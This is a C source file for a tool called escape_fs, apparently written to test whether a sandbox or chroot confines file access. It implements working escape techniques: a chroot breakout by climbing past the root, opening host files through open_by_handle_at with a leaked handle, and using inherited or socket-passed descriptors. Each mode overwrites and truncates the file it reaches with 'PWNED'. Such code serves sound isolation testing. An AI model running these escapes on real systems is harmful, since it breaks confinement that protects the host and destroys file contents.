/* Attempts to reach a host file from inside a root directory.
 *
 *   escape_fs open PATH             open PATH read-write
 *   escape_fs chroot PATH           chroot escape (chroot into a subdirectory,
 *                                   chdir .. past the root, chroot .), then PATH
 *   escape_fs gethandle PATH        print PATH's file handle (type and hex)
 *   escape_fs handle MNT TYPE HEX   open_by_handle_at(open(MNT), handle)
 *   escape_fs openat FD NAME        openat(FD, NAME): an inherited descriptor
 *   escape_fs recvfd SOCKPATH       receive a descriptor over a Unix socket
 *
 * Whatever it opens it reads (printing "read: ...") and overwrites with
 * "PWNED\n", so that a success is visible on the host.  Exits 0 when it
 * opened the file, 1 when it could not (printing the errno). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

static int fail(const char *what) {
    printf("%s: %s\n", what, strerrorname_np(errno) ? strerrorname_np(errno) : "?");
    return 1;
}

static int take(int fd) {
    char buf[256];
    ssize_t n = pread(fd, buf, sizeof buf - 1, 0);
    if (n < 0)
        return fail("read");
    buf[n] = 0;
    printf("read: %s", buf);
    if (pwrite(fd, "PWNED\n", 6, 0) != 6)
        return fail("write");
    if (ftruncate(fd, 6) < 0)
        return fail("truncate");
    printf("wrote\n");
    return 0;
}

static int open_rw(const char *path) {
    int fd = open(path, O_RDWR);
    return fd < 0 ? fail("open") : take(fd);
}

static int chroot_escape(const char *path) {
    mkdir("escape-chroot-dir", 0755);
    if (chroot("escape-chroot-dir") < 0)
        return fail("chroot");
    /* The working directory is now outside the root: climb. */
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return fail("chdir");
    if (chroot(".") < 0)
        return fail("chroot .");
    return open_rw(path);
}

static int gethandle(const char *path) {
    struct file_handle *fh = malloc(sizeof *fh + MAX_HANDLE_SZ);
    int mnt;
    fh->handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, path, fh, &mnt, 0) < 0)
        return fail("name_to_handle_at");
    printf("%d ", fh->handle_type);
    for (unsigned i = 0; i < fh->handle_bytes; i++)
        printf("%02x", fh->f_handle[i]);
    printf("\n");
    return 0;
}

static int by_handle(const char *mnt, const char *type, const char *hex) {
    size_t len = strlen(hex) / 2;
    struct file_handle *fh = malloc(sizeof *fh + len);
    fh->handle_bytes = len;
    fh->handle_type = atoi(type);
    for (size_t i = 0; i < len; i++)
        sscanf(hex + 2 * i, "%2hhx", &fh->f_handle[i]);
    int mfd = open(mnt, O_RDONLY | O_DIRECTORY);
    if (mfd < 0)
        return fail("open mount");
    int fd = open_by_handle_at(mfd, fh, O_RDWR);
    return fd < 0 ? fail("open_by_handle_at") : take(fd);
}

static int recvfd(const char *path) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    strncpy(a.sun_path, path, sizeof a.sun_path - 1);
    if (s < 0)
        return fail("socket");
    if (connect(s, (struct sockaddr *)&a, sizeof a) < 0)
        return fail("connect");
    char byte, ctl[CMSG_SPACE(sizeof(int))];
    struct iovec iov = {&byte, 1};
    struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl, .msg_controllen = sizeof ctl};
    if (recvmsg(s, &m, 0) <= 0)
        return fail("recvmsg");
    struct cmsghdr *c = CMSG_FIRSTHDR(&m);
    if (!c || c->cmsg_type != SCM_RIGHTS) {
        printf("no descriptor\n");
        return 1;
    }
    int fd;
    memcpy(&fd, CMSG_DATA(c), sizeof fd);
    return take(fd);
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc == 3 && !strcmp(argv[1], "open"))
        return open_rw(argv[2]);
    if (argc == 3 && !strcmp(argv[1], "chroot"))
        return chroot_escape(argv[2]);
    if (argc == 3 && !strcmp(argv[1], "gethandle"))
        return gethandle(argv[2]);
    if (argc == 5 && !strcmp(argv[1], "handle"))
        return by_handle(argv[2], argv[3], argv[4]);
    if (argc == 4 && !strcmp(argv[1], "openat")) {
        int fd = openat(atoi(argv[2]), argv[3], O_RDWR);
        return fd < 0 ? fail("openat") : take(fd);
    }
    if (argc == 3 && !strcmp(argv[1], "recvfd"))
        return recvfd(argv[2]);
    fprintf(stderr, "usage: escape_fs MODE ARGS\n");
    return 2;
}
